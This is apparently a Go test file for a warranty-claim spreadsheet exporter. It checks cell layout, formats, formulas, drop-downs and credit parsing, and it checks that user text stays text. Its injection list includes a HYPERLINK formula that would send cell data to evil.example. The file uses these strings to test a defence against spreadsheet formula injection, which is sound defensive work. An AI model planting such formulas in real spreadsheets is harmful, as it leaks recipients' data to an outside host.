package export

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"returndesk/internal/factorytest"
	"returndesk/internal/testenv"
	"returndesk/model"
	"returndesk/outfile"
	"returndesk/policy"
)

// Texts that a spreadsheet would run as formulas if they were written as formulas.
var injections = []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+86 138 0013 8000", "-2+3", "@SUM(A1:A9)",
	"=1+1"}

// testClaimSheet is a claim of three lines (Chinese text, a formula-looking fault, an answered
// line) and one OEM order.
func testClaimSheet() *ClaimSheet {
	answered := time.Date(2026, 3, 12, 10, 0, 0, 0, time.UTC)
	c := &model.Claim{ID: 1, ClaimNo: "CLM-2026-0007", ManufacturerID: 2, Manufacturer: "EleTrek",
		PeriodFrom: model.MustDate("2026-02-01"), PeriodUntil: model.MustDate("2026-02-28"), Status: model.ClaimDraft,
		Lines: []model.ClaimLine{
			{ID: 1, CaseID: 11, CaseNo: "RMA-2026-000011", RemedyAsked: model.RemedyReplace, Quantity: 1, UnitPrice: 2500,
				Freight: 1200, FreightBy: model.FreightByManufacturer, Model: "ET-PB20", Serial: "ET-PB20-26100011",
				PurchaseDate: model.MustDate("2026-01-05"), ShipmentDate: model.MustDate("2025-11-20"),
				ReportedDate: model.MustDate("2026-02-03"), Fault: "无法开机，充电指示灯不亮", FaultCategory: "No power",
				Cause: model.CauseManufacturer, Note: "regular customer: postage deducted from the next PI"},
			{ID: 2, CaseID: 12, CaseNo: "RMA-2026-000012", RemedyAsked: model.RemedyRefund, Quantity: 2, UnitPrice: 1850,
				FreightBy: model.FreightByPending, Model: "ET-CH65", Serial: "-2+3", ShipmentDate: model.MustDate("2025-12-01"),
				ReportedDate: model.MustDate("2026-02-10"), Fault: injections[0], FaultCategory: injections[1],
				Cause: model.CauseManufacturer, Note: injections[3]},
			{ID: 3, CaseID: 13, CaseNo: "RMA-2026-000013", RemedyAsked: model.RemedyDeductNextOrder, Quantity: 1, UnitPrice: 1200,
				Model: "ET-DC12", Serial: "ET-DC12-0001", ReportedDate: model.MustDate("2026-02-20"),
				Fault: "Output voltage drops to 9 V under 2 A load", Cause: model.CauseManufacturer,
				Decision: model.DecisionPartly, Credit: 600, AnswerNote: injections[4], AnsweredAt: &answered},
		}}
	spares := 80
	o := model.OEMOrder{ID: 1, ManufacturerID: 2, Manufacturer: "EleTrek", ProductID: 5, Model: "ET-LED50",
		Customer: "NordAudio AB", OrderNo: "PO-NA-2026-017", Quantity: 20000, ShipmentDate: model.MustDate("2025-10-01"),
		SpareRate: "0.4", SparesReceived: &spares, Defects: 95}
	res, err := policy.EvaluateOEM(oemPreset(), policy.OEMInput{Qty: o.Quantity, Rate: o.SpareRate, Spares: o.SparesReceived,
		Defects: o.Defects})
	if err != nil {
		panic(err)
	}
	return &ClaimSheet{
		Distributor:  ClaimParty{Name: "深圳华强北鑫达电子商行", Contact: "陈静", Phone: "0755-83261234", Email: "rma@xinda.example", Address: "深圳市福田区华强北路 1019 号"},
		Manufacturer: model.Manufacturer{ID: 2, Name: "EleTrek", Contact: "Kevin Zhou (sales manager)", Phone: "+86 20 3705 1188", Email: "rma@eletrek.example", AfterSalesAddress: "EleTrek After Sales Dept., No. 18 Kexue Avenue, Huangpu, Guangzhou 510663"},
		Claim:        c,
		Date:         model.MustDate("2026-03-10"),
		Currency:     "CNY",
		OEM:          []OEMAllowance{{Order: o, Allowance: res, WindowEnds: model.MustDate("2026-10-01")}},
	}
}

func oemPreset() policy.Policy {
	for _, p := range policy.Presets() {
		if p.OEM != nil {
			return p
		}
	}
	panic("no OEM preset")
}

func writeTestSheet(t *testing.T, s *ClaimSheet) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "claim.xlsx")
	if err := SaveClaimSheet(path, outfile.Guard{}, s); err != nil {
		t.Fatal(err)
	}
	return path
}

func openXLSX(t *testing.T, path string) *excelize.File {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func cellIs(t *testing.T, f *excelize.File, sheet, cell, want string) {
	t.Helper()
	got, err := f.GetCellValue(sheet, cell)
	if err != nil || got != want {
		t.Errorf("%s!%s = %q (%v), want %q", sheet, cell, got, err, want)
	}
}

func typeIs(t *testing.T, f *excelize.File, sheet, cell string, want excelize.CellType) {
	t.Helper()
	got, err := f.GetCellType(sheet, cell)
	if err != nil || got != want {
		t.Errorf("%s!%s type = %v (%v), want %v", sheet, cell, got, err, want)
	}
}

func formulaIs(t *testing.T, f *excelize.File, sheet, cell, want string) {
	t.Helper()
	got, err := f.GetCellFormula(sheet, cell)
	if err != nil || got != want {
		t.Errorf("%s!%s formula = %q (%v), want %q", sheet, cell, got, err, want)
	}
}

func numFmtIs(t *testing.T, f *excelize.File, sheet, cell, want string) {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	got := ""
	if st.CustomNumFmt != nil {
		got = *st.CustomNumFmt
	} else {
		got = map[int]string{0: "General", 1: "0", 49: "@"}[st.NumFmt]
	}
	if got != want {
		t.Errorf("%s!%s number format = %q, want %q", sheet, cell, got, want)
	}
}

func TestClaimSheetCellsTypesFormulasAndDropDown(t *testing.T) {
	s := testClaimSheet()
	path := writeTestSheet(t, s)
	f := openXLSX(t, path)
	if got := strings.Join(f.GetSheetList(), "|"); got != "Claim|OEM allowance|Summary" {
		t.Fatalf("sheets = %q", got)
	}
	const sh = SheetClaim
	// It opens on the Claim sheet (sheet1.xml), the only one selected.
	if i := f.GetActiveSheetIndex(); i != 0 {
		t.Errorf("the active sheet is %d", i)
	}
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, zf := range zr.File {
		if name, ok := strings.CutPrefix(zf.Name, "xl/worksheets/"); ok {
			r, _ := zf.Open()
			b, _ := io.ReadAll(r)
			r.Close()
			selected := bytes.Contains(b, []byte(`tabSelected="true"`)) || bytes.Contains(b, []byte(`tabSelected="1"`))
			if selected != (name == "sheet1.xml") {
				t.Errorf("%s selected: %v", name, selected)
			}
		}
	}

	// Header block.
	cellIs(t, f, sh, "A1", "WARRANTY CLAIM  保修索赔单")
	for cell, want := range map[string]string{"A3": "Distributor 经销商", "D3": "深圳华强北鑫达电子商行", "M3": "CLM-2026-0007",
		"J4": "Date 日期", "M4": "2026-03-10", "M5": "2026-02-01 – 2026-02-28", "M6": "3", "M7": "CNY",
		"D5": "陈静 · 0755-83261234 · rma@xinda.example", "D6": "EleTrek",
		"D8": "EleTrek After Sales Dept., No. 18 Kexue Avenue, Huangpu, Guangzhou 510663", "M8": "74.00"} {
		cellIs(t, f, sh, cell, want)
	}
	typeIs(t, f, sh, "M4", excelize.CellTypeUnset) // a date: a number with a date format
	numFmtIs(t, f, sh, "M4", "yyyy-mm-dd")
	formulaIs(t, f, sh, "M8", "N14")

	// Column titles, English over Chinese.
	wantTitles := []string{"No.", "Case no.", "Model", "Serial no.", "Qty", "Shipment date", "Purchase date", "Reported date",
		"Fault description", "Fault category", "Test result", "Remedy asked", "Unit price", "Amount", "Freight",
		"Freight borne by", "Remarks", "Decision", "Credit", "Manufacturer's note"}
	for i, want := range wantTitles {
		got, _ := f.GetCellValue(sh, cellName(i+1, ClaimHeaderRow))
		if first, _, _ := strings.Cut(got, "\n"); first != want {
			t.Errorf("title %d = %q, want %q", i+1, got, want)
		}
	}

	// The lines.
	row := func(r int) []string {
		rows, err := f.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		return rows[r-1]
	}
	got := row(11)
	want := []string{"1", "RMA-2026-000011", "ET-PB20", "ET-PB20-26100011", "1", "2025-11-20", "2026-01-05", "2026-02-03",
		"无法开机，充电指示灯不亮", "No power", "Manufacturer defect", "Same-model replacement", "25.00", "25.00",
		"12.00", "Manufacturer", "regular customer: postage deducted from the next PI"}
	for i, w := range want {
		if i >= len(got) || got[i] != w {
			t.Errorf("row 11 col %s = %q, want %q", ColName(i+1), at(got, i), w)
		}
	}
	typeIs(t, f, sh, "B11", excelize.CellTypeInlineString)
	typeIs(t, f, sh, "E11", excelize.CellTypeUnset) // numbers
	numFmtIs(t, f, sh, "F11", "yyyy-mm-dd")
	numFmtIs(t, f, sh, "M11", "#,##0.00")
	numFmtIs(t, f, sh, "S11", "#,##0.00")
	numFmtIs(t, f, sh, "I11", "@")
	formulaIs(t, f, sh, "N11", "E11*M11")
	formulaIs(t, f, sh, "N12", "E12*M12")
	cellIs(t, f, sh, "N12", "37.00")
	cellIs(t, f, sh, "G12", "") // unknown purchase date: an empty cell
	cellIs(t, f, sh, "L13", "Deduct from the next order")
	cellIs(t, f, sh, "R11", "")
	cellIs(t, f, sh, "S11", "")
	cellIs(t, f, sh, "R13", "Partly")
	cellIs(t, f, sh, "S13", "6.00")
	if h, _ := f.GetRowHeight(sh, 11); h < 12 {
		t.Errorf("row 11 height = %v", h)
	}

	// Formula injection: every user text stays a string.
	for cell, text := range map[string]string{"I12": injections[0], "J12": injections[1], "D12": "-2+3", "Q12": injections[3],
		"T13": injections[4]} {
		cellIs(t, f, sh, cell, text)
		typeIs(t, f, sh, cell, excelize.CellTypeInlineString)
		formulaIs(t, f, sh, cell, "")
	}

	// Totals as formulas.
	cellIs(t, f, sh, "A14", "Total 合计")
	formulaIs(t, f, sh, "E14", "SUM(E11:E13)")
	formulaIs(t, f, sh, "N14", "SUM(N11:N13)")
	formulaIs(t, f, sh, "O14", "SUM(O11:O13)")
	formulaIs(t, f, sh, "S14", "SUM(S11:S13)")
	cellIs(t, f, sh, "N14", "74.00")
	cellIs(t, f, sh, "S14", "6.00")

	// The Decision drop-down and the Credit check.
	dvs, err := f.GetDataValidations(sh)
	if err != nil || len(dvs) != 2 {
		t.Fatalf("data validations = %+v, %v", dvs, err)
	}
	byRef := map[string]*excelize.DataValidation{}
	for _, dv := range dvs {
		byRef[dv.Sqref] = dv
	}
	dv := byRef["R11:R13"]
	if dv == nil || dv.Type != "list" || dv.Formula1 != `"Accepted,Rejected,Partly"` || !dv.ShowErrorMessage ||
		dv.ErrorStyle == nil || *dv.ErrorStyle != "stop" {
		t.Errorf("decision drop-down = %+v", dv)
	}
	if cv := byRef["S11:S13"]; cv == nil || cv.Type != "decimal" {
		t.Errorf("credit validation = %+v", cv)
	}

	// Frozen titles, filter, widths, print set-up.
	panes, err := f.GetPanes(sh)
	if err != nil || !panes.Freeze || panes.YSplit != ClaimHeaderRow || panes.XSplit != 3 || panes.TopLeftCell != "D11" {
		t.Errorf("panes = %+v, %v", panes, err)
	}
	names := map[string]string{}
	for _, dn := range f.GetDefinedName() {
		names[dn.Name+"@"+dn.Scope] = dn.RefersTo
	}
	if got := names["_xlnm._FilterDatabase@Claim"]; got != "'Claim'!$A$10:$T$13" {
		t.Errorf("auto-filter range = %q (names %v)", got, names)
	}
	if got := names["_xlnm.Print_Titles@Claim"]; got != "'Claim'!$10:$10" {
		t.Errorf("print titles = %q", got)
	}
	for col, w := range map[string]float64{"A": 5, "B": 17, "I": 34, "T": 28} {
		if got, _ := f.GetColWidth(sh, col); got != w {
			t.Errorf("width of %s = %v, want %v", col, got, w)
		}
	}
	pl, err := f.GetPageLayout(sh)
	if err != nil || pl.Orientation == nil || *pl.Orientation != "landscape" || pl.FitToWidth == nil || *pl.FitToWidth != 1 ||
		pl.FitToHeight == nil || *pl.FitToHeight != 0 || pl.Size == nil || *pl.Size != 9 {
		t.Errorf("page layout = %+v, %v", pl, err)
	}
	props, err := f.GetSheetProps(sh)
	if err != nil || props.FitToPage == nil || !*props.FitToPage {
		t.Errorf("fit to page = %+v, %v", props, err)
	}

	// OEM allowance: 20000 × 0.4 % = 80 spares received, 95 defects: 15 claimable.
	cellIs(t, f, SheetOEM, "A4", "PO-NA-2026-017")
	cellIs(t, f, SheetOEM, "F4", "20000")
	cellIs(t, f, SheetOEM, "H4", "80")
	cellIs(t, f, SheetOEM, "J4", "95")
	cellIs(t, f, SheetOEM, "K4", "80")
	cellIs(t, f, SheetOEM, "L4", "15")
	formulaIs(t, f, SheetOEM, "L4", "J4-K4")
	formulaIs(t, f, SheetOEM, "K4", `IF(M4="Yes",0,MIN(J4,H4))`)
	cellIs(t, f, SheetOEM, "N4", "Same-model replacement, Deduct from the next order")

	// Summary: by remedy, by model and by decision, as formulas with their values.
	rows, err := f.GetRows(SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	find := func(label string) int {
		for i, r := range rows {
			if len(r) > 0 && r[0] == label {
				return i + 1
			}
		}
		t.Fatalf("summary has no row %q: %q", label, rows)
		return 0
	}
	r := find("Full refund")
	cellIs(t, f, SheetSummary, fmt.Sprintf("B%d", r), "1")
	cellIs(t, f, SheetSummary, fmt.Sprintf("C%d", r), "2")
	cellIs(t, f, SheetSummary, fmt.Sprintf("D%d", r), "37.00")
	formulaIs(t, f, SheetSummary, fmt.Sprintf("D%d", r), fmt.Sprintf("SUMPRODUCT(('Claim'!$L$11:$L$13=$A%d)*'Claim'!$N$11:$N$13)", r))
	r = find("ET-DC12")
	cellIs(t, f, SheetSummary, fmt.Sprintf("E%d", r), "6.00")
	r = find("Not answered yet")
	cellIs(t, f, SheetSummary, fmt.Sprintf("B%d", r), "2")
	cellIs(t, f, SheetSummary, fmt.Sprintf("B%d", find("Accepted")), "0") // a row for every decision, answered or not
	cellIs(t, f, SheetSummary, fmt.Sprintf("E%d", find("Partly")), "6.00")
	formulaIs(t, f, SheetSummary, fmt.Sprintf("B%d", r), `SUMPRODUCT(('Claim'!$R$11:$R$13="")*1)`)
}

func at(s []string, i int) string {
	if i < len(s) {
		return s[i]
	}
	return ""
}

// runPython runs an inline script with args and decodes the JSON it prints.
func runPython(t *testing.T, script string, out any, args ...string) {
	t.Helper()
	cmd := exec.Command(testenv.Python(t), append([]string{"-c", script}, args...)...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("python: %v\n%s", err, stderr.String())
	}
	if out != nil {
		if err := json.Unmarshal(stdout.Bytes(), out); err != nil {
			t.Fatalf("python output: %v\n%s", err, stdout.String())
		}
	}
}

const openpyxlRead = `
import json, sys, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb["Claim"]
def cell(ref):
    c = ws[ref]
    v = c.value
    if isinstance(v, (datetime.date, datetime.datetime)):
        v = v.strftime("%Y-%m-%d")
    return {"value": v, "type": c.data_type, "format": c.number_format}
dvs = [{"sqref": str(dv.sqref), "type": dv.type, "formula1": dv.formula1, "errorStyle": dv.errorStyle} for dv in ws.data_validations.dataValidation]
out = {
  "sheets": wb.sheetnames,
  "cells": {r: cell(r) for r in ["M3", "M4", "B11", "F11", "I11", "N11", "I12", "J12", "D12", "Q12", "T13", "E14", "N14", "S14", "R13", "S13"]},
  "dvs": dvs,
  "freeze": ws.freeze_panes,
  "filter": ws.auto_filter.ref,
  "titles": ws.print_title_rows,
  "orientation": ws.page_setup.orientation,
  "fitToWidth": ws.page_setup.fitToWidth,
  "fitToHeight": ws.page_setup.fitToHeight,
  "fitToPage": ws.sheet_properties.pageSetUpPr.fitToPage if ws.sheet_properties.pageSetUpPr else None,
  "widthI": ws.column_dimensions["I"].width,
}
print(json.dumps(out, ensure_ascii=False))
`

// The same workbook as another program reads it: openpyxl, not excelize.
func TestClaimSheetReadByOpenpyxl(t *testing.T) {
	path := writeTestSheet(t, testClaimSheet())
	var got struct {
		Sheets []string `json:"sheets"`
		Cells  map[string]struct {
			Value  any    `json:"value"`
			Type   string `json:"type"`
			Format string `json:"format"`
		} `json:"cells"`
		DVs []struct {
			Sqref, Type, Formula1, ErrorStyle string
		} `json:"dvs"`
		Freeze, Filter, Titles, Orientation string
		FitToWidth, FitToHeight             int
		FitToPage                           bool
		WidthI                              float64
	}
	runPython(t, openpyxlRead, &got, path)
	if strings.Join(got.Sheets, "|") != "Claim|OEM allowance|Summary" {
		t.Errorf("sheets = %v", got.Sheets)
	}
	want := map[string]struct {
		value any
		typ   string
	}{
		"M3":  {"CLM-2026-0007", "s"},
		"M4":  {"2026-03-10", "d"},
		"B11": {"RMA-2026-000011", "s"},
		"F11": {"2025-11-20", "d"},
		"I11": {"无法开机，充电指示灯不亮", "s"},
		"N11": {"=E11*M11", "f"},
		"I12": {injections[0], "s"},
		"J12": {injections[1], "s"},
		"D12": {"-2+3", "s"},
		"Q12": {injections[3], "s"},
		"T13": {injections[4], "s"},
		"E14": {"=SUM(E11:E13)", "f"},
		"N14": {"=SUM(N11:N13)", "f"},
		"S14": {"=SUM(S11:S13)", "f"},
		"R13": {"Partly", "s"},
		"S13": {6.0, "n"},
	}
	for ref, w := range want {
		c := got.Cells[ref]
		if fmt.Sprint(c.Value) != fmt.Sprint(w.value) || c.Type != w.typ {
			t.Errorf("openpyxl %s = %v (%s), want %v (%s)", ref, c.Value, c.Type, w.value, w.typ)
		}
	}
	if f := got.Cells["F11"].Format; f != "yyyy-mm-dd" {
		t.Errorf("openpyxl date format = %q", f)
	}
	if f := got.Cells["N11"].Format; f != "#,##0.00" {
		t.Errorf("openpyxl money format = %q", f)
	}
	found := false
	for _, dv := range got.DVs {
		if dv.Sqref == "R11:R13" && dv.Type == "list" && dv.Formula1 == `"Accepted,Rejected,Partly"` && dv.ErrorStyle == "stop" {
			found = true
		}
	}
	if !found {
		t.Errorf("openpyxl sees no Decision drop-down: %+v", got.DVs)
	}
	if got.Freeze != "D11" || strings.ReplaceAll(got.Filter, "$", "") != "A10:T13" || got.Orientation != "landscape" || got.FitToWidth != 1 ||
		got.FitToHeight != 0 || !got.FitToPage || got.WidthI != 34 {
		t.Errorf("openpyxl layout: freeze %q filter %q orientation %q fit %d×%d page %v width %v",
			got.Freeze, got.Filter, got.Orientation, got.FitToWidth, got.FitToHeight, got.FitToPage, got.WidthI)
	}
	if !strings.Contains(got.Titles, "$10:$10") {
		t.Errorf("openpyxl print titles = %q", got.Titles)
	}
}

func TestAnsweredSheetRoundTrip(t *testing.T) {
	s := testClaimSheet()
	s.Claim.Lines[2].Decision, s.Claim.Lines[2].Credit, s.Claim.Lines[2].AnswerNote = "", 0, ""
	answered := factorytest.Answer(t, writeTestSheet(t, s), map[string]any{
		"R11": "Accepted",
		"R12": "Rejected", "T12": "water damage inside",
		"R13": "Partly", "S13": 6.5, "T13": "housing cracked: half the credit",
	})
	// openpyxl kept every text a text (it writes strings it read as strings).
	f := openXLSX(t, answered)
	for _, cell := range []string{"I12", "J12", "D12", "Q12"} {
		if formula, _ := f.GetCellFormula(SheetClaim, cell); formula != "" {
			t.Errorf("%s became the formula %q after openpyxl saved the file", cell, formula)
		}
	}
	got, err := ReadClaimAnswersFile(answered)
	if err != nil {
		t.Fatal(err)
	}
	if got.ClaimNo != "CLM-2026-0007" || got.Sheet != SheetClaim || len(got.Problems) != 0 {
		t.Errorf("answers = %+v", got)
	}
	if len(got.Answers) != 3 {
		t.Fatalf("answers = %+v", got.Answers)
	}
	a := got.Answers
	if a[0].CaseNo != "RMA-2026-000011" || a[0].Decision != model.DecisionAccepted || a[0].Credit != nil || a[0].Row != 11 {
		t.Errorf("line 1 = %+v", a[0])
	}
	if a[1].Decision != model.DecisionRejected || a[1].Note != "water damage inside" {
		t.Errorf("line 2 = %+v", a[1])
	}
	// openpyxl writes "=..." as a formula: the clerk's note arrives as the formula's text.
	if a[2].Decision != model.DecisionPartly || a[2].Credit == nil || *a[2].Credit != 650 {
		t.Errorf("line 3 = %+v", a[2])
	}
}

func TestReadClaimAnswersFromOurOwnSheet(t *testing.T) {
	s := testClaimSheet()
	var buf bytes.Buffer
	if err := WriteClaimSheet(&buf, s); err != nil {
		t.Fatal(err)
	}
	got, err := ReadClaimAnswers(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	// Unanswered lines come back without a decision; the answered one as it was.
	if len(got.Answers) != 3 || got.Answers[0].Decision != "" || got.Answers[2].Decision != model.DecisionPartly ||
		*got.Answers[2].Credit != 600 || got.Answers[2].Note != injections[4] {
		t.Errorf("answers = %+v", got.Answers)
	}
}

func TestReadClaimAnswersProblems(t *testing.T) {
	// A sheet typed by hand, columns in another order, with bad cells.
	f := excelize.NewFile()
	defer f.Close()
	rows := [][]any{
		{"Claim no.", "clm-2026-0003"},
		{},
		{"Credit", "Decision\n处理结果", "Note", "Case no."},
		{"¥1.234,50", "accepted", "", "rma-2026-000001"},
		{"", "maybe", "", "RMA-2026-000002"},
		{"lots", "Accepted", "", "RMA-2026-000003"},
		{"", "拒绝", "不是质量问题", "RMA-2026-000004"},
		{"", "", "", ""},
		{"99", "Accepted", "", "Total"},
	}
	for i, r := range rows {
		if err := f.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &r); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := ReadClaimAnswers(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.ClaimNo != "CLM-2026-0003" {
		t.Errorf("claim no = %q", got.ClaimNo)
	}
	if len(got.Answers) != 5 {
		t.Fatalf("answers = %+v", got.Answers)
	}
	if a := got.Answers[0]; a.CaseNo != "RMA-2026-000001" || a.Decision != model.DecisionAccepted || *a.Credit != 123450 {
		t.Errorf("answer 1 = %+v", a)
	}
	if a := got.Answers[1]; a.Decision != "" {
		t.Errorf("bad decision read as %q", a.Decision)
	}
	if a := got.Answers[2]; a.Decision != "" || a.Credit != nil {
		t.Errorf("a line with a bad credit must stay unanswered: %+v", a)
	}
	if a := got.Answers[3]; a.Decision != model.DecisionRejected || a.Note != "不是质量问题" {
		t.Errorf("answer 4 = %+v", a)
	}
	if len(got.Problems) != 2 || !strings.Contains(got.Problems[0].String(), "row 5") || !strings.Contains(got.Problems[1].String(), `"lots"`) {
		t.Errorf("problems = %q", got.Problems)
	}
	// Such a sheet is refused whole, with every bad cell in one line.
	refusal := got.Refusal("answers.xlsx")
	if model.ErrorCode(refusal) != model.EINVALID || strings.Count(refusal.Error(), "\n") != 0 ||
		!strings.Contains(refusal.Error(), "answers.xlsx: 2 cells cannot be read, nothing was imported: row 5") ||
		!strings.Contains(refusal.Error(), `"lots"`) {
		t.Errorf("refusal = %v", refusal)
	}
	if err := (&ClaimAnswers{}).Refusal("answers.xlsx"); err != nil {
		t.Errorf("a clean sheet is refused: %v", err)
	}

	// Not a claim sheet, not a workbook.
	g := excelize.NewFile()
	defer g.Close()
	g.SetCellValue("Sheet1", "A1", "serial")
	buf.Reset()
	g.WriteTo(&buf)
	if _, err := ReadClaimAnswers(&buf); model.ErrorCode(err) != model.EINVALID {
		t.Errorf("sheet without titles: %v", err)
	}
	if _, err := ReadClaimAnswers(strings.NewReader("serial,model\n")); model.ErrorCode(err) != model.EINVALID {
		t.Errorf("CSV: %v", err)
	}
	if _, err := ReadClaimAnswersFile(filepath.Join(t.TempDir(), "missing.xlsx")); model.ErrorCode(err) != model.EINVALID {
		t.Errorf("missing file: %v", err)
	}
}

// parseCredit reads text as a dealer reads an amount; what it cannot read to the cent it
// refuses rather than guess.
func TestParseCredit(t *testing.T) {
	checkCredits(t, "parseCredit", parseCredit, true, []creditCase{
		{"12", 1200, ""},
		{"12.5", 1250, ""},
		{"18.50", 1850, ""},
		{"18,50", 1850, ""}, // a decimal comma
		{"18,5", 1850, ""},
		{"1.234,50", 123450, ""}, // dots for thousands, a decimal comma
		{"1.234.567,89", 123456789, ""},
		{"1,234.50", 123450, ""},
		{"1,234", 123400, ""}, // a lone comma before three digits groups thousands
		{"1,000,000", 100000000, ""},
		{"1.234.567", 123456700, ""},
		{"1 234,50", 123450, ""},
		{"1\u00a0234,50", 123450, ""},
		{"¥ 80", 8000, ""},
		{"CNY 3.00", 300, ""},
		{"usd 12", 1200, ""},
		{"18.500", 1850, ""}, // trailing zeros are no sub-cent amount
		{",5", 50, ""},
		{"0.001", 0, "more than two decimals"},
		{"12.345", 0, "more than two decimals"},
		{"0,001", 0, "more than two decimals"},
		{"1,2345", 0, "more than two decimals"},
		{"33.333333333333336", 0, "more than two decimals"},
		{"TRUE", 0, "not an amount"},
		{"-5", 0, "negative"},
		{"−18,50", 0, "negative"},
		{"99999999999999", 0, "too large"},
		{"1e2", 0, "not an amount"},
		{"", 0, "not an amount"},
		{"abc", 0, "not an amount"},
		{"12..5", 0, "not an amount"},
		{"1,2,3", 0, "not an amount"},
		{"1,234,50", 0, "not an amount"},
		{"01,234", 0, "not an amount"},
		{"12.", 0, "not an amount"},
		{"1.2,3", 0, "not an amount"},
	})
}

// A number cell's value is a double: read at the 15 digits Excel shows, never rounded
// beyond.
func TestNumberCredit(t *testing.T) {
	checkCredits(t, "numberCredit", numberCredit, false, []creditCase{
		{"18.5", 1850, ""},
		{"1000000", 100000000, ""},
		{"0.30000000000000004", 30, ""}, // 0.1+0.2
		{"18.499999999999996", 1850, ""},
		{"1e2", 10000, ""},
		{"1E-3", 0, "more than two decimals"},
		{"0.001", 0, "more than two decimals"},
		{"12.345", 0, "more than two decimals"},
		{"33.333333333333336", 0, "more than two decimals"}, // =100/3
		{"-5", 0, "negative"},
		{"1e20", 0, "too large"},
		{"NaN", 0, "not an amount"},
	})
}

// creditCase is a credit as a cell holds it and what reading it gives.
type creditCase struct {
	in   string
	want model.Money
	err  string // part of the refusal; "" when read
}

// checkCredits reads each case with read (called name in the errors); with naming, a
// refusal must also quote the input, as a refusal of typed text does.
func checkCredits(t *testing.T, name string, read func(string) (model.Money, error), naming bool, tests []creditCase) {
	t.Helper()
	for _, tt := range tests {
		got, err := read(tt.in)
		if tt.err == "" && (err != nil || got != tt.want) {
			t.Errorf("%s(%q) = %v, %v; want %v", name, tt.in, got, err, tt.want)
		}
		if tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err) || naming && !strings.Contains(err.Error(), strconv.Quote(tt.in))) {
			t.Errorf("%s(%q) = %v, %v; want a refusal (naming it: %v): %q", name, tt.in, got, err, naming, tt.err)
		}
	}
}

// A claim of 10,000 lines is streamed: it is written quickly, reads back whole, and its
// formulas and drop-down cover every line.
func TestLargeClaimSheet(t *testing.T) {
	const n = 10_000
	s := testClaimSheet()
	base := s.Claim.Lines[0]
	s.Claim.Lines = make([]model.ClaimLine, n)
	for i := range s.Claim.Lines {
		l := base
		l.CaseNo = model.CaseNo(fmt.Sprintf("RMA-2026-%06d", i+1))
		l.Serial = model.Serial(fmt.Sprintf("ET-PB20-%08d", i+1))
		if i%3 == 0 {
			l.Fault = injections[i%len(injections)]
		}
		s.Claim.Lines[i] = l
	}
	start := time.Now()
	path := writeTestSheet(t, s)
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("writing %d lines took %v", n, d)
	}
	f := openXLSX(t, path)
	last := ClaimFirstLineRow + n - 1
	cellIs(t, f, SheetClaim, fmt.Sprintf("B%d", last), fmt.Sprintf("RMA-2026-%06d", n))
	cellIs(t, f, SheetClaim, fmt.Sprintf("A%d", last), fmt.Sprint(n))
	formulaIs(t, f, SheetClaim, fmt.Sprintf("N%d", last), fmt.Sprintf("E%d*M%d", last, last))
	formulaIs(t, f, SheetClaim, fmt.Sprintf("N%d", last+1), fmt.Sprintf("SUM(N11:N%d)", last))
	cellIs(t, f, SheetClaim, fmt.Sprintf("N%d", last+1), "250,000.00")
	formulaIs(t, f, SheetClaim, "I11", "")
	dvs, _ := f.GetDataValidations(SheetClaim)
	found := false
	for _, dv := range dvs {
		found = found || (dv.Sqref == fmt.Sprintf("R11:R%d", last) && dv.Type == "list")
	}
	if !found {
		t.Errorf("the drop-down does not cover the %d lines: %+v", n, dvs)
	}
	ans, err := ReadClaimAnswersFile(path)
	if err != nil || len(ans.Answers) != n {
		t.Fatalf("read back %v answers, %v", len(ans.Answers), err)
	}
	if fi, _ := os.Stat(path); fi.Size() > 8<<20 {
		t.Errorf("%d lines take %d bytes", n, fi.Size())
	}
}

// LibreOffice reads the sheet as a person's spreadsheet would: text stays text, Chinese
// intact, totals computed. (make deps-test installs it.)
func TestClaimSheetThroughLibreOffice(t *testing.T) {
	soffice := testenv.Tool(t, "soffice")
	s := testClaimSheet()
	in := writeTestSheet(t, s)
	outDir := t.TempDir()
	profile := "file://" + filepath.ToSlash(t.TempDir())
	cmd := exec.Command(soffice, "-env:UserInstallation="+profile, "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
		"--outdir", outDir, in)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, b)
	}
	csv, err := os.ReadFile(filepath.Join(outDir, "claim.csv"))
	if err != nil {
		t.Fatal(err)
	}
	text := string(csv)
	// LibreOffice shows the text as text (no formula ran), the Chinese intact, and the totals computed.
	for _, want := range []string{"RMA-2026-000011", "无法开机，充电指示灯不亮", `"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
		"@SUM(A1:A9)", "74.00", "Total 合计"} {
		if !strings.Contains(text, want) {
			t.Errorf("LibreOffice's CSV lacks %q:\n%s", want, text)
		}
	}
}
